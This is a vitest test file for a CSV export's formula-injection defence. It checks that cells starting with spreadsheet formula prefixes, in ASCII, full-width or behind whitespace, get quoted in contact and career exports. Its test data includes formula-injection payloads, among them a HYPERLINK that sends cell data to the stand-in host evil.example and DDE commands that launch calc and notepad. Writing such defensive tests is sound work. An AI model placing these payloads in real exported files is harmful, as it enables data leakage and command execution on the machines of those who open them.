import { describe, expect, it } from 'vitest';
import { careerCsvRow, contactCsvRow, neutraliseCell } from './csv';

/**
 * The CSV family of the hostile-input suite: every formula prefix a spreadsheet evaluates, ASCII and full-width, bare
 * and after the leading whitespace spreadsheets skip, in every exported column of both exports.
 */

const PREFIXES = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '−'];
const LEADS = ['', ' ', '   ', '\u00a0', '\u3000', '\n', ' \u2009', '\ufeff'];
const PAYLOADS = ['HYPERLINK("http://evil.example/?"&A1,"Click")', 'cmd|\' /C calc\'!A0', "SUM(1+1)*cmd|' /C notepad'!A1", '1+1'];
const CONTROL_STARTS = ['\t=1+1', '\r=1+1', '\tplain', '\rplain'];

const HOSTILE = [
  ...PREFIXES.flatMap((prefix) => LEADS.flatMap((lead) => PAYLOADS.map((payload) => `${lead}${prefix}${payload}`))),
  ...CONTROL_STARTS,
];
const BENIGN = ['Asha Verma', 'asha@example.com', 'a=b', 'Steel - galvanised', 'C++ developer', '2026-03-05 08:15:00', '', ' leading text'];

describe('CSV export of hostile cells', () => {
  it(`neutralises all ${HOSTILE.length} formula cells (ASCII, full-width, after whitespace, tab and CR)`, () => {
    const unsafe = HOSTILE.filter((cell) => !neutraliseCell(cell).startsWith("'"));
    expect(unsafe).toEqual([]);
    // The text itself is kept after the quote: nothing typed is lost.
    for (const cell of HOSTILE) expect(neutraliseCell(cell)).toBe(`'${cell}`);
  });

  it('leaves ordinary text unchanged', () => {
    for (const cell of BENIGN) expect(neutraliseCell(cell)).toBe(cell);
  });

  it('neutralises every column of both exports', () => {
    const cell = ' ＝HYPERLINK("http://evil.example","x")';
    const contact = contactCsvRow({
      id: 1, name: cell, email: cell, phone: cell, company: cell, subject: cell, message: cell, status: 'new', created_at: cell,
    } as never);
    const career = careerCsvRow({
      id: 1, name: cell, email: cell, phone: cell, position: cell, experience: cell, education: '', skills: '', cover_letter: cell,
      resume_filename: cell, resume_file: cell, status: 'new', created_at: cell,
    } as never);
    for (const value of [...contact, ...career]) if (value !== 'new') expect(value).toBe(`'${cell}`);
  });
});
